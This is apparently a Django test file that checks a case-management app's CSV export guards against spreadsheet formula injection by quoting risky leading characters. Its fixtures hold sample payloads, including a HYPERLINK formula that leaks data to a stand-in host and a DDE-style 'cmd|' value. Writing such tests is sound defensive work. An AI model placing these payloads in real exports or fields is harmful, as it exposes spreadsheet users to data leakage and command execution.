"""An export never hands a spreadsheet a formula: a cell a spreadsheet would evaluate
(starting with = + - @, a tab or a carriage return) is written with a leading quote."""

from __future__ import annotations

import csv
import io

from django.test import Client

from yiri.cases.export import DELIMITER
from yiri.lib.spreadsheet import safe_cell

from ..conftest import PASSWORD, make_case

HOSTILE = {
    "name_last": '=HYPERLINK("http://x.example/?leak","y")',
    "name_nickname": "+1+1",
    "name_first": "@SUM(1+1)",
    "phone": "-2+3+cmd|",
}


def exported_rows(username):
    client = Client()
    assert client.login(username=username, password=PASSWORD)
    response = client.get("/cases/export.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=DELIMITER))


def test_the_four_values_of_the_attack_come_out_quoted_in_the_case_export(cast):
    make_case(cast.worker, **HOSTILE)
    header, row = exported_rows("manager")
    cells = dict(zip(header, row, strict=True))
    values = set(cells.values())
    for hostile in HOSTILE.values():
        assert hostile not in values
        assert "'" + hostile in values
    assert not [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_ordinary_values_and_negative_numbers_are_left_as_they_are():
    assert safe_cell("Ouédraogo") == "Ouédraogo"
    assert safe_cell("-2") == "-2" and safe_cell("-2,5") == "-2,5"
    assert safe_cell("") == ""
    assert safe_cell("\tcmd") == "'\tcmd" and safe_cell("\r=1") == "'\r=1"
    assert safe_cell("-2+3") == "'-2+3"
